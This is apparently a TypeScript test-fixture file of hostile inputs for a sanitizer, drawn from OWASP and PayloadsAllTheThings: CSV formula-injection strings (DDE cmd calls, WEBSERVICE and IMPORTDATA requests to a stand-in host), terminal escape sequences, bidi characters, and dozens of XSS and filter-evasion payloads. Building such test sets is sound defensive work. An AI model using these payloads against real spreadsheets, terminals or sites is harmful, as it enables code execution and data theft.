/** Collected payloads for spreadsheets and terminals; tables of RFC 4180. */

/** OWASP/www-community@0e5e8f00, pages/attacks/CSV_Injection.md: first characters, and cells in and out. */
export const owaspFirst: readonly string[] = ['=', '+', '-', '@', '\t', '\r', '\n'];
export const owaspCells: readonly (readonly [string, string])[] = [
  ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
  ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,=1+2"'],
];

/** swisskyrepo/PayloadsAllTheThings@f9fa5141, CSV Injection/README.md (MIT); the last four are ours. */
export const formulas: readonly string[] = [
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  '=HYPERLINK("http://example.invalid","x")',
  '=IMPORTXML("http://example.invalid/csv", "//a/@href")',
  "-2+3+cmd|' /C calc'!A0",
  '\uff1d1+1',
  '%0A=1+1',
];

export const harmless: readonly string[] = [
  '-3.5 in',
  '-12.50',
  '+1 555 0100 stays readable',
  '=~ in a note',
];

/**
 * After docs.rs/ftui-render sanitize and docs.rs/par-term-scripting strip_vt_sequences; end of OSC: Linux
 * kernel 63f3a16d.
 */
export const escapes: readonly string[] = [
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u001b]0;owned\u001b\\',
  '\u001b]8;;http://example.invalid\u001b\\click\u001b]8;;\u001b\\',
  '\u001b]52;c;ZWNobyBoaQ==\u0007',
  '\u001b[31mred\u001b[0m',
  '\u009b31m',
  '\u009d0;x\u009c',
  '\u001bP1$r0m\u001b\\',
  '\u001b_APC\u001b\\',
  '\u001b^PM\u001b\\',
  '\r\u001b[Koverwritten',
  'line1\rLINE',
  'tab\tbell\u0007',
  '\b\b\b',
  '\u007f',
  '\u202eRTL\u202c',
  '\u2028',
  '\u001b[6n',
  '\u001bc',
];

/** RFC 4180 section 2. */
export const rfcRows: readonly (readonly (readonly string[])[])[] = [
  [
    ['aaa', 'bbb', 'ccc'],
    ['zzz', 'yyy', 'xxx'],
  ],
  [
    ['aaa', 'bbb', 'ccc'],
    ['zzz', 'yyy', 'xxx'],
  ],
  [
    ['aaa', 'bbb', 'ccc'],
    ['zzz', 'yyy', 'xxx'],
  ],
  [
    ['aaa', 'b\r\nbb', 'ccc'],
    ['zzz', 'yyy', 'xxx'],
  ],
  [['aaa', 'b"bb', 'ccc']],
];

/** Steers a screen or is invisible; some are in docs/scripts.md. */
export const signs: readonly string[] = [
  ...['\0', '\u0007', '\b', '\t', '\n', '\v', '\f', '\r', '\u001b', '\u007f', '\u0085', '\u009b', '\u009d'],
  ...['\u00ad', '\u200b', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202e', '\u2066', '\u2069'],
  ...['\u2060', '\ufeff', '\ud800', '\u{e0041}'],
];

/**
 * The first thirteen after OWASP/CheatSheetSeries@6b8819da, Cross_Site_Scripting_Prevention_Cheat_Sheet.md
 * and XSS_Filter_Evasion_Cheat_Sheet.md (CC-BY-SA-4.0), as noted when read.
 */
export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</text></svg><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)',
  '<img src=x onerror=alert(1)>',
  '\u0000<b>',
  '\ud800 lone surrogate',
  'a\u202egnp.exe',
  '&#0000060script>',
];

/** One form of each heading of the filter evasion sheet, from memory. */
export const evasions: readonly string[] = [
  '\';alert(String.fromCharCode(88,83,83))//";alert(1)//--></SCRIPT>">\'><SCRIPT>alert(1)</SCRIPT>',
  "'';!--\"<XSS>=&{()}",
  '<SCRIPT SRC=http://example.invalid/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("1")`>',
  '<a onmouseover="alert(document.cookie)">x</a>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<SCRIPT/XSS SRC="http://example.invalid/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT SRC=//example.invalid/.j>',
  '<IMG SRC="javascript:alert(1)"',
  '<iframe src=http://example.invalid/x.html <',
  '\\";alert(1);//',
  '</TITLE><SCRIPT>alert(1);</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'http://example.invalid/x.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://example.invalid/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
  '<? echo(1); ?>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<math><mtext></mtext><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form><button formaction=javascript:alert(1)>x',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "http://example.invalid/">]>&y;',
  '[x](javascript:alert(1))',
  '![x](http://example.invalid/x.png)',
  '<http://example.invalid/>',
  '[x]: javascript:alert(1)',
];

/** More starts of formulas, from memory: blanks, quotes or numbers before the sign. */
export const moreFormulas: readonly string[] = [
  '+1+1',
  '-1+1',
  '@A1',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  ',=1+1',
  ';=1+1',
  '=cmd|\' /C calc\'!"A1"',
  "+cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.invalid/")',
  '=IMPORTDATA("http://example.invalid/")',
  '=IMAGE("http://example.invalid/x.png")',
  '=FILTERXML("<x/>","//x")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"x")',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20A1',
];
